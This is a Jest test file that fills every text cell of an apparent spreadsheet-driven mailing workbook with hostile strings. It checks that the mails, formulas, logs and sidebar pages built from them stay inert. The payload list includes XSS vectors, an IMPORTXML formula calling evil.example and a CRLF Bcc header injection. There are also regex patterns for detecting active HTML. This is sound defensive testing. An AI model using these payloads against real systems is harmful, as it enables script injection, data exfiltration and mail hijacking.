// A workbook in which every text is an attack: every answer, every mail and every page made from it is harmless.

import { beforeAll, describe, expect, test } from '@jest/globals';
import type { OutgoingMail } from '../../../host/api';
import { recordTables } from '../../../src/schema/workbook';
import { workbook } from '../../../src/tables';
import { fieldsOf, formOf } from '../../../src/workbook/rows/form';
import { type Desk, hours } from '../../journeys/support/desk';
import { setting } from '../../journeys/support/grid-hands';
import { busyDesk } from '../support/busy-desk';
import { columnOf } from '../support/by-hand';
import { sampledWork } from '../support/every-work';
import { reachOf } from '../support/reach';

const attacks = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '=IMPORTXML("http://evil.example","//a")',
  '+SUM(A1)',
  '@x',
  'x\r\nBcc: eve@evil.example',
  '{{constructor}} $& $\u007b1+1} <?= x ?>',
  '__proto__',
];

const reach = reachOf('hostile text');

/** Kinds that take any text; people and words stay as they are, so that the rows are still mailed. */
const texts = ['text', 'address'];

/** A desk where every text on every tab is one of the attacks; a text of the grid may be anything. */
function hostileDesk(): Desk {
  const desk = busyDesk();
  const { catalog } = desk.rpc('open', {});
  let turn = 0;
  for (const table of recordTables(workbook).filter(({ tab }) => desk.host.book.tabs.named(tab) !== null)) {
    const fields = fieldsOf(formOf(table, catalog)).filter(
      ({ key, column }) => texts.includes(column.kind) && !table.keyColumns.includes(key),
    );
    // The words that rules read, who gets mail and which steps there are stay; all other tabs are theirs.
    if (['lists', 'people', 'steps'].includes(table.key)) continue;
    const [headings = [], ...rows] = desk.values(table.tab);
    // A column that only an office has is not on every tab.
    for (const { heading } of fields.filter((field) => headings.includes(field.heading))) {
      const cells = rows.map(() => [`'${attacks[turn++ % attacks.length]}`]);
      desk.host.book.hand.type(table.tab, `${columnOf(desk, table.tab, heading)}2`, cells);
    }
  }
  setting(desk, 'Production title', `'${attacks[0]} ${attacks[7]}`);
  expect(turn).toBeGreaterThan(200);
  return desk;
}

/** Everything in a page or a mail that could act; quoted text holds none of it unescaped. */
function actingParts(html: string): readonly string[] {
  const tags = [...html.matchAll(/<\s*(script|img|svg|iframe|object|embed|form|link|base|meta)\b[^>]*>/gi)].map(([tag]) => tag);
  const handlers = [...html.matchAll(/<[^>]*\son\w+\s*=[^>]*>/gi)].map(([tag]) => tag);
  const links = [...html.matchAll(/(?:href|src)\s*=\s*"([^"]*)"/gi)]
    .map(([, url = '']) => url)
    .filter((url) => !/^(https?:|mailto:|#)/i.test(url));
  return [...tags.filter((tag) => !/^<meta/i.test(tag)), ...handlers, ...links];
}

function addresses({ to, cc, bcc, replyTo }: OutgoingMail): readonly string[] {
  return [...to, ...cc, ...bcc, ...(replyTo === null ? [] : [replyTo])];
}

describe('X3: with every text an attack', () => {
  let desk: Desk;
  let known: readonly string[];

  beforeAll(() => {
    desk = hostileDesk();
    known = desk.rows('People').flatMap(({ Email }) => (Email === '' ? [] : [String(Email)]));
    desk.host.moveTo(desk.host.clock.now() + hours(2));
  });

  test('every mail of a morning goes out, and nothing in it acts', () => {
    expect(desk.mails.length).toBeGreaterThan(8);
    for (const mail of desk.mails) {
      expect(actingParts(mail.html ?? '')).toEqual([]);
      expect(mail.html).not.toContain('\r');
      expect(`${mail.subject}${mail.senderName}${mail.replyTo}`).not.toMatch(/[\r\n]/);
      expect(addresses(mail).filter((address) => !known.includes(address))).toEqual([]);
    }
    expect(desk.mails.some(({ html }) => html?.includes('&lt;img') ?? false)).toBe(true);
  });

  test('no run, mail or stamp makes a formula of a text', () => {
    for (const { id, name } of desk.host.book.tabs.all()) {
      const { rows, columns } = desk.host.book.cells.extent(id);
      if (rows === 0) continue;
      const formulas = desk.host.book.cells.formulas(id, { top: 0, left: 0, bottom: rows - 1, right: columns - 1 });
      const made = formulas.flat().filter((formula) => attacks.some((attack) => formula.includes(attack)));
      expect([name, made]).toEqual([name, []]);
    }
  });

  test('the log of no execution holds a text of a cell or an address', () => {
    const log = desk.host.executions.flatMap((execution) => execution.log).join('\n');
    expect([...attacks, ...known].filter((text) => log.includes(text))).toEqual([]);
  });
});

describe('X2: with every text an attack', () => {
  const requests = sampledWork().flatMap(({ asked }) => asked ?? []);
  let desk: Desk;

  beforeAll(() => {
    desk = hostileDesk();
  });

  test.each(requests)('the answer to $name is data, nothing is logged, and the page of the sidebar holds none of it', (asked) => {
    const { name, method, input } = asked;
    const answer = desk.ask(method, input, name);
    reach.add({ work: { name, asked }, cases: attacks.length });
    expect(answer.ok ? 'ok' : answer.error.code).toMatch(/^(ok|invalid|conflict|gone|setup|denied)$/);
    expect(desk.last.log.filter((line) => attacks.some((attack) => line.includes(attack)))).toEqual([]);
    desk.menu('Open sidebar');
    expect(attacks.filter((attack) => /[<=]/.test(attack) && desk.host.panel?.html.includes(attack))).toEqual([]);
    expect(desk.mails.flatMap(({ html }) => actingParts(html ?? ''))).toEqual([]);
  });
});
